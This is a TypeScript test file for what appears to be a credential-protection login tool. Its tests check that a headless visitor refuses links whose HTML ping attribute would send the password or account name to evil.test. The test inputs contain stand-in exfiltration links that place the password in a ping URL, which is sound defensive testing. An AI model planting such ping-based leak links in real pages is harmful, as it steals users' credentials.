import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { httpVisitors } from '../../core/canary/http/visitor.ts';
import { Access } from '../../core/live/access.ts';
import { Neighbours } from '../../core/live/neighbours.ts';
import type { Profile } from '../../core/providers/profile.ts';
import type { Target } from '../../core/targets/target.ts';
import { test as base, expect } from '../alarms/support.ts';
import { guardedProfile } from './guarded-profile.ts';

const login = {
  username: 'ann@guarded.test',
  password: 'Archer-live-only',
  oneTimeCode: async () => '482913',
};

const click = { what: 'a tip', page: { path: '/tip$' }, press: ['a'] };

/** What is stopped, if anything, where a login leads without a browser to a page with this link, which is pressed. */
const test = base.extend<{ stoppedBy: (link: string) => Promise<string | null> }>({
  stoppedBy: async ({ folder: stateDir }, use) => {
    let link = '';
    const server = createServer((request, response) => {
      if (request.method === 'POST') return void response.writeHead(303, { location: '/tip' }).end();
      const form =
        '<form method="post"><input name="name"><input name="password" type="password"><button name="enter">';
      const ways: Record<string, string> = { '/tip': link, '/login': form };
      response.writeHead(200, { 'content-type': 'text/html' }).end(ways[request.url ?? ''] ?? 'There');
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
    const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    await use(async (shown) => {
      link = shown;
      const profile: Profile = { ...guardedProfile(origin), clicksOnTheWay: [click] };
      const neighbours = new Neighbours(['127.0.0.1']);
      const target = { mode: 'live', name: 'guarded', profile } as Target;
      const access = Access.to(target, { stateDir, pauseMs: 0, deviceFile: null, neighbours }, {});
      const redirectUri = 'http://localhost:1/callback';
      const visitor = await httpVisitors({
        ...{ access, redirectUri, timeoutMs: 3000, openDispatcher: async () => null },
      })('somebody');
      await visitor.open(new URL(`${origin}/login`));
      await visitor.logIn(login).catch(() => undefined);
      return (await visitor.close())?.message ?? null;
    });
    server.closeAllConnections();
    server.close();
  },
});

test('a link whose ping would take the password to another host is not followed without a browser', async ({
  stoppedBy,
}) => {
  expect(
    await stoppedBy(`<a href="/next" ping="/own https://evil.test/?p=${login.password}">Go on`),
  ).toContain('the password would have gone to evil.test in an address');
});

test('a link whose ping would tell another host of an address with the name in it is not followed', async ({
  stoppedBy,
}) => {
  const name = encodeURIComponent(login.username);
  expect(await stoppedBy(`<a href="/next?for=${name}" ping="https://evil.test/">Go on`)).toContain(
    "the account's name would have gone to evil.test",
  );
});

test('a link whose ping tells nobody anything is followed', async ({ stoppedBy }) => {
  expect(await stoppedBy('<a href="/next" ping="https://counter.test/ mailto:x javascript:0">Go on')).toBe(
    null,
  );
});
